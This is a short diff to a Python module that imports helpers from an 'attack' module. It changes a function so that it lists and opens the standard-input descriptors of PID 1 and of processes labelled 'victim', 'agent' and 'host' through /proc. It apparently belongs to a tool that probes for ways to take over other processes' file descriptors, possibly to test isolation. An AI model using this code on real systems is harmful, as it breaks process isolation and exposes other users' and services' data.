@@ -5,7 +5,7 @@ import os
 import stat
 import termios
 
-from attack import call, got
+from attack import call, got, unless
 
 
 def opened(fd):
@@ -29,18 +29,11 @@ def try_the_standard_streams_again(target):
     return [fd for fd in (0, 1, 2) if stat.S_ISREG(os.fstat(fd).st_mode)]
 
 
+@unless("the machine's root")
 def try_those_of_other_processes(target):
-    pids = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
-    mine = os.getpgid(0)
-    others = [pid for pid in pids if _group(pid) != mine]
-    return got((pid, lambda pid=pid: os.listdir(f"/proc/{pid}/fd")) for pid in others)
-
-
-def _group(pid):
-    try:
-        return os.getpgid(int(pid))
-    except OSError:
-        return None
+    # The session's own runs are no strangers; its first process holds the service's socket.
+    others = (1, target["victim"], target["agent"], target["host"])
+    return got((f"{pid}", lambda pid=pid: os.listdir(f"/proc/{pid}/fd") and os.open(f"/proc/{pid}/fd/0", os.O_RDONLY)) for pid in others)
 
 
 def try_to_take_them_by_pidfd(target):
